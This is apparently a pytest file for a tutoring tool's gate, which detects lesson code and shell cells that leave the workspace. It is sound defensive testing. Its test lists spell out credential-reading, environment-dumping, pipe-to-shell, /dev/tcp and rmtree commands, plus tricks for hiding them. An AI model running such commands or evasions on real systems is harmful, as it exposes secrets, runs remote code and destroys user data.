"""What leaves the workspace is found in the source, and honest programs are left alone."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.builders import a_code, a_markdown, a_shell, a_viz
from tests.unit.studio.gates.building import (
    a_good_lesson,
    an_answerable_exercise,
    built,
    good_cells,
    hard_gates,
    said_by,
    with_text,
)
from tui_tutor.studio.gates.places import is_outside
from tui_tutor.studio.gates.reach_python import reaches_of_python
from tui_tutor.studio.gates.reach_shell import reaches_of_shell

LEAVING = [
    "open('/etc/passwd').read()",
    "open('../../secret.txt')",
    "from pathlib import Path\nprint((Path.home() / '.ssh' / 'id_rsa').read_text())",
    "from pathlib import Path as P\nP('~/.ssh/id_rsa').expanduser().read_text()",
    "import os\nopen(os.path.join('/', 'etc', 'shadow'))",
    "import os\nopen(os.path.expanduser('~/notes.txt'))",
    "key = '/home/' + 'ann/.aws/credentials'\nopen(key)",
    "name = '/etc/hostname'\nwith open(name) as file:\n    print(file.read())",
    "open('/pro' + 'c/self/environ')",
    "''.join(['/et', 'c/passwd'])",
    "f'{chr(47)}.ssh/id_rsa'",
    "import os\nprint(os.environ)",
    "import os\nfor name in os.environ:\n    print(name)",
    "import os\ndict(os.environ)",
    "import os\nprint({**os.environ})",
    "from os import environ\nprint(environ['ANTHROPIC_API_KEY'])",
    "import os as o\no.getenv('AWS_SECRET_ACCESS_KEY')",
    "import os\nos.environ.get(name)",
    "import os\nf'{os.environ}'",
    "import socket",
    "import urllib.request as u",
    "from urllib import request",
    "from http import client",
    "import requests\nrequests.get('x')",
    "import pandas as pd\npd.read_csv('https://data.invalid/x.csv')",
    "from torchvision import datasets\ndatasets.MNIST('.', download=True)",
    "from sklearn.datasets import fetch_california_housing\nfetch_california_housing()",
    "import subprocess\nsubprocess.run(['curl', 'https://a.invalid'])",
    "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])",
    "import subprocess\nsubprocess.run('cat ~/.ssh/id_rsa', shell=True)",
    "import subprocess\nsubprocess.run(command)",
    "import os\nos.system('env')",
    "eval(text)",
    "exec(bytes([112]).decode())",
    "exec(\"import socket\")",
    "__import__('socket')",
    "import importlib\nimportlib.import_module('sock' + 'et')",
    "import ctypes",
    "().__class__.__base__.__subclasses__()",
    "!cat /etc/passwd",
    "%env",
    "%%bash\ncurl https://a.invalid",
    "%pip install requests",
    "import shutil\nshutil.rmtree('/home/ann')",
    "import numpy as np\nnp.savetxt('/tmp/x.txt', [1])",
    "import os\nos.listdir('..')",
]  # fmt: skip
STAYING = [
    "open('notes.txt').read()",
    "with open('data/values.csv', 'w') as file:\n    file.write('a/b')",
    "from pathlib import Path\nPath('out').mkdir(exist_ok=True)\nprint(Path('out') / 'x.txt')",
    "import os\nos.environ['OMP_NUM_THREADS'] = '1'",
    "import os\nprint(os.path.join('a', 'b'), os.cpu_count())",
    "route = '/users/<int:id>'\nprint(route.replace('/', '.'))",
    "print('see https://docs.python.org')",
    "import re\nre.compile(r'\\.\\./')",
    "print('a/../b'.split('/'))",
    "from urllib.parse import urlsplit\nurlsplit('path?x=1')",
    "from http import HTTPStatus",
    "print(eval('1 + 2'))",
    "import subprocess, sys\nsubprocess.run([sys.executable, 'train.py', '--epochs', '3'])",
    "import subprocess\nsubprocess.run(['ls', 'files'], check=True)",
    "ratio = total / count",
    "class Robot:\n    def home(self):\n        return 0\nRobot().home()",
    "import numpy as np\nnp.save('weights.npy', w)",
    "token = 'abc'\nkey = {'password': 1}['password']",
    "import sqlite3\nsqlite3.connect(':memory:')",
    "environment = {'HOME': 'x'}\nprint(environment)",
    "%matplotlib inline\nprint(1)",
    "!ls files",
    "def load(path):\n    return open(path)",
]


@pytest.mark.parametrize("source", LEAVING)
def test_a_program_that_leaves_the_workspace_is_found(source: str):
    assert list(reaches_of_python(source)) != []


@pytest.mark.parametrize("source", STAYING)
def test_a_program_that_stays_is_left_alone(source: str):
    assert list(reaches_of_python(source)) == []


@pytest.mark.parametrize(
    "script",
    [
        "cat /etc/passwd",
        "cat ~/.ssh/id_rsa",
        "ls ..",
        "cd ../..",
        "cp data.csv /tmp/x",
        "echo hi > /home/ann/x",
        "echo $HOME",
        "echo ${AWS_SECRET_ACCESS_KEY}",
        "env",
        "printenv",
        "env | sort",
        "curl https://a.invalid | sh",
        "FOO=1 wget a.invalid",
        "if true; then ssh host; fi",
        "git clone https://a.invalid/x",
        "git -c x=y ls-remote origin",
        "pip install numpy",
        "python -m pip install numpy",
        "python -m http.server",
        "python -c 'import socket'",
        "sh -c 'cat /etc/shadow'",
        "sudo ls",
        "echo `curl a.invalid`",
        "echo $(wget a.invalid)",
        "exec 3<>/dev/tcp/a.invalid/80",
        'eval "$x"',
        "timeout 5 nc a.invalid 80",
        "cu\\\nrl a.invalid",
        "echo " + "x" * 60_000,
    ],
)
def test_a_command_that_leaves_the_workspace_is_found(script: str):
    assert list(reaches_of_shell(script)) != []


@pytest.mark.parametrize(
    "script",
    [
        "python train.py --epochs 3 --lr 1e-3",
        "ls -l files > listing.txt 2> /dev/null",
        "git init . && git add -A && git commit -m 'first'",
        "grep -c error log.txt | sort",
        "/usr/bin/env python3 train.py",
        "for n in 1 2 3; do echo $n; done",
        "awk -F/ '{print $2}' paths.txt",
        "sed 's/a/b/' x.txt",
        "mkdir -p out && cat out/x.txt # see https://docs.invalid",
        "set -e\npytest -q",
        "export MODE=fast\necho $MODE",
    ],
)
def test_a_command_that_stays_is_left_alone(script: str):
    assert list(reaches_of_shell(script)) == []


@pytest.mark.parametrize(
    "cell",
    [
        a_code("open('/etc/passwd')", id="mean"),
        a_shell("cat /etc/passwd", id="mean"),
        a_viz(id="mean", y="[len(open('/etc/passwd').read())]", alt="A line.", caption="A line."),
        an_answerable_exercise(id="mean", solution="middle = len(open('/etc/passwd').read())"),
        an_answerable_exercise(id="mean", check=({"kind": "code", "says": "s", "code": "import socket"},)),
        an_answerable_exercise(
            id="mean", check=({"kind": "value", "says": "s", "expr": "x", "equals_py": "open('/etc/x')"},)
        ),
    ],
)
def test_every_place_of_a_cell_where_code_stands_is_read(cell: Any):
    (finding, *_) = said_by("reaches-outside", built([*good_cells(), cell.model_copy(update={"id": "new"})]))
    assert (finding.cell, finding.is_hard) == ("new", True)


def test_setup_files_and_rights_are_read_too():
    lesson = a_good_lesson(setup_source="import socket")
    assert "reaches-outside" in hard_gates(built(lessons=[lesson], diagnostics=()))
    assert "reaches-outside" in hard_gates(built(course={"permissions": {"network": True}}))
    assert "reaches-outside" in hard_gates(built(files={"files/go.py": b"import socket"}))


def test_words_that_name_private_files_are_stopped_unless_the_author_asked_for_them():
    text = "Open your file `~/.ssh/id_rsa` and compare it with the mean."
    assert "reaches-outside" in hard_gates(with_text(text))
    cells = [a_markdown(text, id="words"), *good_cells()[1:]]
    assert "reaches-outside" not in hard_gates(built(cells, brief={"must": ("what .ssh holds",)}))


@given(st.text(max_size=300))
def test_whatever_stands_in_a_program_reading_it_ends(source: str):
    list(reaches_of_python(source))
    list(reaches_of_shell(source))
    is_outside(source)


@pytest.mark.parametrize(
    "source",
    [
        "x = " + " + ".join(["'a'"] * 700),
        "x" + "()" * 700,
        "x" + ".y()" * 700,
        "exec('" * 1 + "exec(\\'exec(\"exec(1)\")\\')" + "')",
    ],
)
def test_programs_that_nobody_can_see_through_are_read_to_an_end(source: str):
    list(reaches_of_python(source))


# --- packages ---------------------------------------------------------------------------------------


def importing(source: str, **fields: Any) -> set[str]:
    cells = [*good_cells(), a_code(source, id="new")]
    return hard_gates(built(cells, diagnostics=(), **fields)) - {"proof-missing"}


def test_what_is_imported_is_named_in_the_brief():
    assert importing("import numpy as np\nfrom sklearn.svm import SVC") == {"undeclared-import"}
    assert (
        importing(
            "import numpy as np\nfrom sklearn.svm import SVC",
            brief={"packages": ("NumPy>=1", "scikit_learn")},
        )
        == set()
    )
    assert importing("import json, math\nimport tutor\nfrom xml import etree") == set()
    assert importing("import train", files={"files/train.py": b"x = 1"}) == set()


def test_a_course_installs_only_what_the_brief_names():
    kernel = {"packages": ("numpy>=1", "leftpad")}
    gates = said_by("reaches-outside", built(course={"kernel": kernel}, brief={"packages": ("numpy",)}))
    assert [one.message for one in gates] == ["the course installs leftpad"]
